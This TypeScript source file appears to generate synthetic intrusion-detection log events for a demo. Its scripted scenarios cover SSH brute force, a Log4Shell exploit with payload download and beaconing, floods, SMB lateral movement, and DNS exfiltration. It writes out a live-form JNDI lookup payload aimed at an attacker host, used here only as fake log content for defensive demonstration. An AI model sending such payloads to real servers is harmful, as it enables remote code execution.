import { alertEvent, type DemoEvent, type Ends, flowEvent, protocolEvent } from './eve-line.ts';
import type { Random } from './random.ts';
import { SIGNATURES } from './signatures.ts';
import { addressIn, COUNTRIES } from './world.ts';

export interface StoryContext {
  /** Start, µs since 1970. */
  readonly at: number;
  readonly random: Random;
  /** How often the rotation has come round: the people change, the plot stays. */
  readonly round: number;
  /** 1 at the usual rate. */
  readonly scale: number;
}

/** Gives its events in order of time. */
export type Story = (context: StoryContext) => Generator<DemoEvent, undefined>;

const SECOND = 1e6;
const ATTACKERS = ['CN', 'RU', 'VN', 'BR', 'IR', 'NL', 'UA', 'IN', 'US', 'RO'] as const;

/** A scan that turns into guessing SSH passwords, and at last gets in. */
function* bruteForce({ at, random }: StoryContext): Generator<DemoEvent, undefined> {
  const attacker = addressIn(random.pick(ATTACKERS), random);
  const victim = '10.20.2.14';
  for (let i = 0; i < 140; i++) {
    at += random.int(30_000, 80_000);
    const ends: Ends = {
      source: attacker,
      sourcePort: random.int(40000, 65000),
      target: `10.20.2.${1 + (i % 60)}`,
      targetPort: random.pick([22, 22, 22, 23, 80, 443, 3389, 5900] as const),
    };
    yield flowEvent(at, random, ends, { state: 'new', toServer: 60, toClient: 0 });
    if (i % 28 === 20) yield alertEvent(at + 100, random, { ...ends, targetPort: 22 }, SIGNATURES.sshScan);
  }
  for (let i = 0; i < 90; i++) {
    at += random.int(120_000, 260_000);
    const ends: Ends = {
      source: attacker,
      sourcePort: random.int(40000, 65000),
      target: victim,
      targetPort: 22,
    };
    yield protocolEvent(at, random, 'ssh', ends, {
      client: { proto_version: '2.0', software_version: 'libssh2_1.11.0' },
      server: { proto_version: '2.0', software_version: 'OpenSSH_9.6p1' },
    });
    if (i % 15 === 4)
      yield alertEvent(at + 2000, random, ends, SIGNATURES.sshBruteForce, { app_proto: 'ssh' });
    yield flowEvent(at + 90_000, random, ends, {
      app: 'ssh',
      state: 'closed',
      toServer: random.int(1800, 2600),
      toClient: random.int(2300, 3100),
      seconds: 2,
      alerted: i % 15 === 4,
    });
  }
  const ends: Ends = { source: attacker, sourcePort: 51314, target: victim, targetPort: 22 };
  yield flowEvent(at + 9 * SECOND, random, ends, {
    app: 'ssh',
    state: 'established',
    toServer: 48_200,
    toClient: 912_400,
    seconds: 9,
  });
  return undefined;
}

/** A web server is taken by way of its log, fetches a payload and starts calling home. */
function* exploitAndBeacon({ at, random, round }: StoryContext): Generator<DemoEvent, undefined> {
  const attacker = addressIn(random.pick(ATTACKERS), random);
  const control = addressIn(random.pick(['NL', 'US', 'DE', 'SG', 'FI'] as const), random);
  const victim = round % 2 === 0 ? '10.40.1.20' : '10.50.1.20';
  const lookup = `\${jndi:ldap://${attacker}:1389/Basic/${random.hex(6)}}`;
  const inbound: Ends = {
    source: attacker,
    sourcePort: random.int(40000, 65000),
    target: victim,
    targetPort: 80,
  };
  const request = {
    hostname: 'api.example.com',
    url: `/login?next=${encodeURIComponent(lookup)}`,
    http_user_agent: lookup,
    http_method: 'GET',
    protocol: 'HTTP/1.1',
    status: 200,
    length: 1182,
  };
  for (let i = 0; i < 3; i++) {
    at += random.int(600_000, 1_400_000);
    const ends = { ...inbound, sourcePort: inbound.sourcePort + i };
    yield alertEvent(at, random, ends, SIGNATURES.log4j, {
      app_proto: 'http',
      http: request,
      payload_printable: `GET ${request.url} HTTP/1.1\r\nHost: ${request.hostname}\r\nUser-Agent: ${lookup}\r\n\r\n`,
    });
    yield protocolEvent(at + 4000, random, 'http', ends, request);
  }
  const outward = (target: string, targetPort: number): Ends => ({
    source: victim,
    sourcePort: random.int(32768, 60999),
    target,
    targetPort,
  });
  at += SECOND;
  yield alertEvent(at, random, outward(attacker, 1389), SIGNATURES.ldapCallback);
  yield flowEvent(at + 300_000, random, outward(attacker, 1389), {
    app: 'ldap',
    state: 'closed',
    toServer: 410,
    toClient: 730,
  });
  at += 2 * SECOND;
  const download = outward(attacker, 8888);
  yield protocolEvent(at, random, 'http', download, {
    hostname: attacker,
    url: '/Exploit.class',
    http_user_agent: 'Java/1.8.0_181',
    http_method: 'GET',
    protocol: 'HTTP/1.1',
    status: 200,
    length: 2618,
  });
  yield {
    at: at + 5000,
    body: {
      ...protocolEvent(
        at + 5000,
        random,
        'fileinfo',
        { ...download, source: attacker, target: victim },
        {
          filename: '/Exploit.class',
          state: 'CLOSED',
          md5: random.hex(32),
          sha256: random.hex(64),
          stored: false,
          size: 2618,
        },
      ).body,
      app_proto: 'http',
    },
  };
  for (let i = 0; i < 10; i++) {
    at += random.int(4_600_000, 5_400_000);
    const ends = outward(control, 443);
    yield protocolEvent(at, random, 'tls', ends, {
      sni: 'cdn-status.example.org',
      version: 'TLS 1.2',
      ja3: { hash: '72a589da586844d7f0818ce684948eea' },
    });
    if (i % 2 === 1) yield alertEvent(at + 1500, random, ends, SIGNATURES.beacon, { app_proto: 'tls' });
    yield flowEvent(at + 400_000, random, ends, {
      app: 'tls',
      state: 'closed',
      toServer: 1290,
      toClient: 2210,
    });
  }
  return undefined;
}

/** Thousands of addresses against one service: SYNs in one round, reflected SNMP in the next. */
function* flood({ at, random, round, scale }: StoryContext): Generator<DemoEvent, undefined> {
  const reflected = round % 2 === 1;
  const target = reflected ? '10.50.1.20' : '10.10.1.80';
  const end = at + 20 * SECOND;
  const pause = SECOND / (420 * scale);
  for (let i = 0; at < end; i++) {
    // Swells over the first three seconds.
    const ramp = Math.min(1, 0.15 + (20 * SECOND - (end - at)) / (3 * SECOND));
    at += Math.max(1, Math.floor((pause / ramp) * (0.4 + 1.2 * random.next())));
    const ends: Ends = {
      source: addressIn(random.pick(COUNTRIES).code, random),
      sourcePort: reflected ? 161 : random.int(1024, 65535),
      target,
      targetPort: reflected ? random.int(1024, 65535) : 443,
      proto: reflected ? 'UDP' : 'TCP',
    };
    if (i % 9 === 0)
      yield alertEvent(at, random, ends, reflected ? SIGNATURES.amplification : SIGNATURES.synFlood);
    else {
      yield flowEvent(at, random, ends, {
        ...(reflected ? { app: 'snmp' } : {}),
        state: 'new',
        toServer: reflected ? random.int(1200, 1480) : 60,
        toClient: 0,
      });
    }
  }
  return undefined;
}

/** A stolen workstation goes through the house over SMB. */
function* lateralMovement({ at, random }: StoryContext): Generator<DemoEvent, undefined> {
  const thief = `10.10.${random.int(3, 9)}.${random.int(20, 240)}`;
  const servers = ['10.20.2.30', '10.30.2.30', '10.50.2.30', '10.40.2.30'] as const;
  const smb = (
    ends: Ends,
    when: number,
    command: string,
    status: string,
    more: Record<string, unknown> = {},
  ) =>
    protocolEvent(when, random, 'smb', ends, {
      id: random.int(1, 4000),
      dialect: '3.11',
      command,
      status,
      status_code: status === 'STATUS_SUCCESS' ? '0x0' : '0xc000006d',
      session_id: random.int(1, 1e9),
      tree_id: 0,
      ...more,
    });
  for (const target of servers) {
    const ends: Ends = { source: thief, sourcePort: random.int(49152, 65535), target, targetPort: 445 };
    for (let i = 0; i < 12; i++) {
      at += random.int(120_000, 350_000);
      const user = random.pick(['administrator', 'backup', 'svc-deploy', 'helpdesk'] as const);
      yield smb(ends, at, 'SMB2_COMMAND_SESSION_SETUP', 'STATUS_LOGON_FAILURE', {
        ntlmssp: { domain: 'CORP', user, host: 'WS-0457' },
      });
    }
    yield alertEvent(at + 1000, random, ends, SIGNATURES.logonFailures, { app_proto: 'smb' });
    at += SECOND;
    yield smb(ends, at, 'SMB2_COMMAND_SESSION_SETUP', 'STATUS_SUCCESS', {
      ntlmssp: { domain: 'CORP', user: 'svc-deploy', host: 'WS-0457' },
    });
    at += 300_000;
    yield smb(ends, at, 'SMB2_COMMAND_TREE_CONNECT', 'STATUS_SUCCESS', { share: `\\\\${target}\\ADMIN$` });
    yield alertEvent(at + 1000, random, ends, SIGNATURES.adminShare, { app_proto: 'smb' });
    at += 900_000;
    yield smb(ends, at, 'SMB2_COMMAND_CREATE', 'STATUS_SUCCESS', {
      filename: 'PSEXESVC.exe',
      share: 'ADMIN$',
    });
    yield alertEvent(at + 1000, random, ends, SIGNATURES.psexec, { app_proto: 'smb' });
    at += 2 * SECOND;
  }
  return undefined;
}

/** Data leaves the house, first by name queries and then in bulk. */
function* dataTheft({ at, random }: StoryContext): Generator<DemoEvent, undefined> {
  const host = `10.30.${random.int(3, 9)}.${random.int(20, 240)}`;
  const drop = addressIn(random.pick(['RO', 'BG', 'UA', 'HK', 'NL'] as const), random);
  for (let i = 0; i < 70; i++) {
    at += random.int(150_000, 320_000);
    const ends: Ends = {
      source: host,
      sourcePort: random.int(1025, 65535),
      target: '10.30.1.53',
      targetPort: 53,
      proto: 'UDP',
    };
    yield protocolEvent(at, random, 'dns', ends, {
      version: 2,
      type: 'query',
      id: random.int(1, 65535),
      rrname: `${random.hex(60)}.${random.hex(60)}.t.example.org`,
      rrtype: 'TXT',
      tx_id: 0,
      opcode: 0,
    });
    if (i % 20 === 10) yield alertEvent(at + 500, random, ends, SIGNATURES.longQuery, { app_proto: 'dns' });
  }
  for (let i = 0; i < 6; i++) {
    at += random.int(3_500_000, 4_500_000);
    const ends: Ends = { source: host, sourcePort: random.int(32768, 60999), target: drop, targetPort: 443 };
    yield protocolEvent(at, random, 'tls', ends, { sni: 'files.example.org', version: 'TLS 1.3' });
    if (i % 3 === 1) yield alertEvent(at + 800_000, random, ends, SIGNATURES.upload, { app_proto: 'tls' });
    yield flowEvent(at + 3_000_000, random, ends, {
      app: 'tls',
      state: 'closed',
      toServer: random.int(180, 520) * 1_000_000,
      toClient: random.int(200_000, 900_000),
      seconds: 3,
    });
  }
  return undefined;
}

export const STORIES: readonly [Story, ...Story[]] = [
  bruteForce,
  exploitAndBeacon,
  flood,
  lateralMovement,
  dataTheft,
];
